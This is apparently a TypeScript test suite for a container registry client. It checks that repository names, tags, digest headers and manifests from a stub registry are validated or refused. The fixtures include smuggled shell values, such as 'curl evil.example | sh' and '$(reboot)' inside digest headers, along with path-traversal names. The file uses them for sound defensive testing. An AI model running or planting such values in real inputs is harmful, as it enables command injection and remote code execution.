// The operations against a stub registry: what a registry sends is checked before it can reach a
// link or a copyable command.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { RegistryClient } from './client';
import { RegistryContext } from './context';
import { RegistryError } from './errors';
import { ResponseHeaders, type HttpResponse } from './http';
import { MediaType, sha256Digest } from './manifest';
import { AddressPolicy } from './policy';
import { d, enc } from './test-fixtures';
import type { Transport } from './transport';

const ORIGIN = 'https://r.example';

function registry(answer: (url: URL, method: string) => { status?: number; headers?: Record<string, string>; body?: unknown }): RegistryClient {
  const transport: Transport = async (req) => {
    if (req.url.pathname === '/v2/') return respond(req.url, {});
    return respond(req.url, answer(req.url, req.method));
  };
  const context = new RegistryContext({ policy: new AddressPolicy({ allowed: null, dockerHubRegistryUrl: 'https://registry-1.docker.io' }) });
  return new RegistryClient({ host: 'r.example', baseUrl: ORIGIN, context, transport });
}

function respond(url: URL, a: { status?: number; headers?: Record<string, string>; body?: unknown }): HttpResponse {
  const body = a.body === undefined ? Buffer.alloc(0) : Buffer.isBuffer(a.body) ? a.body : enc(a.body);
  return { status: a.status ?? 200, url, headers: new ResponseHeaders(Object.entries(a.headers ?? {}).flat()), body };
}

const badResponse = (e: unknown) => e instanceof RegistryError && e.code === 'BAD_RESPONSE';

describe('names a registry sends', () => {
  test('catalog entries that are not repository names are left out and counted', async () => {
    const client = registry(() => ({ body: { repositories: ['ok/app', 'x/../../..//evil.example/p', 'UPPER/case', 'a b', 42, null, 'team/api'] } }));
    const page = await client.listRepositories();
    assert.deepEqual(page.items, ['ok/app', 'team/api']);
    assert.equal(page.invalid, 4);
  });

  test('tags that are not tags are left out and counted', async () => {
    const client = registry(() => ({ body: { name: 'a', tags: ['1.0', '../x', 'a b', `${'t'.repeat(129)}`, 'latest', null] } }));
    const page = await client.listTags('a');
    assert.deepEqual(page.items, ['1.0', 'latest']);
    assert.equal(page.invalid, 3);
  });

  test('a Docker-Content-Digest that is not a digest never becomes the digest shown', async () => {
    const client = registry(() => ({ headers: { 'docker-content-digest': 'sha256:x; curl evil.example | sh', 'content-type': MediaType.OciManifest } }));
    await assert.rejects(client.headManifest('a', 'latest'), badResponse);
  });

  test('a legacy manifest whose digest header is not a digest is refused', async () => {
    const legacy = { schemaVersion: 1, name: 'a', tag: 'old', architecture: 'amd64', fsLayers: [] };
    const client = registry(() => ({ headers: { 'docker-content-digest': '$(reboot)', 'content-type': MediaType.DockerSchema1Signed }, body: legacy }));
    await assert.rejects(client.getManifest('a', 'old'), badResponse);
  });

  test('an index naming a descriptor by something that is not a digest is refused', async () => {
    const index = { schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [{ mediaType: MediaType.OciManifest, digest: 'sha256:../../x', size: 1 }, { mediaType: MediaType.OciManifest, digest: d('a'), size: 1 }] };
    const client = registry(() => ({ headers: { 'content-type': MediaType.OciIndex }, body: index }));
    await assert.rejects(client.getManifest('a', 'latest'), badResponse);
  });
});

describe('content that does not match its digest', () => {
  const manifest = { schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('c'), size: 2 }, layers: [] };
  const bytes = enc(manifest);
  const actual = sha256Digest(bytes);
  const answer = (digest: string) => registry(() => ({ headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest }, body: bytes }));

  test('a tag whose Docker-Content-Digest is not the digest of its bytes is refused, naming both', async () => {
    await assert.rejects(answer(d('e')).getManifest('a', 'latest'), (e: unknown) => badResponse(e) && (e as Error).message.includes(`(${d('e')}) that is not the digest of its content (${actual})`));
  });

  test('a tag whose Docker-Content-Digest is its bytes’ digest shows it', async () => {
    assert.equal((await answer(actual).getManifest('a', 'latest')).digest, actual);
  });

  test('a manifest fetched by digest whose bytes hash to another is refused', async () => {
    await assert.rejects(answer(d('a')).getManifest('a', d('a')), (e: unknown) => badResponse(e) && /does not match the digest asked for .*tell the registry's owner/.test((e as Error).message));
  });
});

describe('lists that are not lists', () => {
  test('a web page for a tag list says what came and what to check', async () => {
    const client = registry(() => ({ headers: { 'content-type': 'text/html' }, body: Buffer.from('<!DOCTYPE html><html><title>Sign in</title></html>') }));
    await assert.rejects(client.listTags('team/app'), (e: unknown) => badResponse(e) && /list of tags of team\/app with something that is not JSON \(a web page\)\. Check that r\.example is the registry itself/.test((e as Error).message));
  });

  test('JSON that is not a catalog says so', async () => {
    const client = registry(() => ({ body: { repositories: 'all of them' } }));
    await assert.rejects(client.listRepositories(), (e: unknown) => badResponse(e) && /list of repositories with something that is not a list of repositories/.test((e as Error).message));
  });
});

test('a cursor cannot ask the registry for more than 1000 entries a page', async () => {
  const asked: string[] = [];
  const client = registry((url) => {
    asked.push(url.searchParams.get('n') ?? '');
    return { body: { name: 'a', tags: ['1.0'] } };
  });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=100000000&last=x' });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=lots&last=x' });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=50&last=x' });
  await client.listTags('a', { n: 5000 });
  assert.deepEqual(asked, ['1000', '1000', '50', '1000']);
});
